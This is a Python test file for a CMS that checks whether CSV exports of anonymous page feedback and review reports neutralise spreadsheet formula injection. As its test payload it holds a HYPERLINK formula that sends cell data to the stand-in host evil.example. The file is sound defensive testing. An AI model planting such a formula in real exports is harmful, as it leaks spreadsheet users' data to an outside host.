"""CSV exports cannot carry a stranger's formula: a comment any website can post through the
feedback buttons reaches the editors' export as text, not as a formula a spreadsheet runs
(OWASP's CSV-injection rule: a cell starting with =, +, -, @, tab or carriage return gets ')."""

import csv
import datetime
import io

import pytest
from bs4 import BeautifulSoup
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from feedback.models import PageFeedback
from tests.factories import ArticlePageFactory, make_user

pytestmark = pytest.mark.usefixtures("fresh_rate_limits")

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Read more")'


def exported_rows(client, url):
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_strangers_comment_is_exported_as_text_not_a_formula(client, guidance, start):
    article = ArticlePageFactory(parent=guidance, title="Sleep after trauma")
    page = BeautifulSoup(client.get(article.url).content, "html.parser")
    action = page.select_one(".feedback form")["action"]
    # What a page on another site posts: no cookie, no CSRF token needed by design.
    answer = BeautifulSoup(client.post(action, {"useful": "no"}).content, "html.parser")
    token = answer.select_one("input[name=token]")["value"]
    comment = start + FORMULA[1:]
    assert client.post(action, {"token": token, "comment": comment}).status_code == 200
    stored = PageFeedback.objects.get().comment
    assert stored == comment

    client.force_login(make_user("editor", "Editors"))
    cells = [cell for row in exported_rows(client, "/admin/reports/page-feedback/") for cell in row]
    cell = next(cell for cell in cells if "HYPERLINK" in cell)
    assert cell.startswith("'") and cell[1:] == stored


def test_the_reviews_due_export_writes_a_title_like_a_formula_as_text(client, guidance):
    ArticlePageFactory(parent=guidance, title="-1+1 ways to sleep", slug="sleep")
    due = timezone.localdate() + datetime.timedelta(days=3)
    from articles.models import ArticlePage

    ArticlePage.objects.filter(slug="sleep").update(next_review_due=due)
    client.force_login(make_user("editor", "Editors"))
    rows = exported_rows(client, "/admin/reports/reviews-due/")
    assert any(row[0] == "'-1+1 ways to sleep" for row in rows)


def test_tab_and_carriage_return_starts_are_neutralised_too():
    """(The feedback form strips leading white space; other exports may not.)"""
    from cms.spreadsheets import neutralised

    assert neutralised("\t=1+1") == "'\t=1+1" and neutralised("\r=1") == "'\r=1"
    assert neutralised("Sleep") == "Sleep" and neutralised(3) == 3


def test_every_spreadsheet_export_of_the_project_neutralises_formulas():
    from cms.spreadsheets import FormulaSafeExportMixin

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    ours = [
        c
        for c in subclasses(SpreadsheetExportMixin)
        if c.__module__.split(".")[0]
        in {"feedback", "review", "contacts", "articles", "search", "cms", "twofactor", "translations", "home"}
    ]  # noqa: E501
    assert ours, "the project's exports were not found"
    assert all(issubclass(c, FormulaSafeExportMixin) for c in ours), ours
